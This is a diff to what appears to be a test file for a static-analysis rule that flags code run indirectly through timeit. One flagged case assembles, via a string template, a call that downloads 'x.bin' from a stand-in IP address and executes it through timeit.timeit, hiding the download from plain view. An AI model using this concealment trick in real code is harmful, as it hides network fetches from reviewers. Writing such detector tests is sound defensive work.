@@ -337,3 +337,14 @@ def builtin_call(k):
     if k in ("exec", "print"):
         # ruleid: eval-exec
         vars(builtins)[k]("import os")
+# timeit-code-template: a statement formatted from a template and a table
+_TMPL = "import {m} as _r; _r.urlretrieve('{u}', '{p}')"
+_PARTS = {"m": "urllib.request", "u": "http://198.51.100.23/x", "p": "x.bin"}
+_calibrate = _TMPL.format_map(_PARTS)
+# ruleid: timeit-code-template
+timeit.timeit(stmt=_calibrate, number=1)
+# a benchmark of the program's own function, its name formatted in
+def _work(n):
+    return sum(range(n))
+# ok: timeit-code-template
+timeit.timeit("_work({})".format(1000), globals=globals(), number=10)
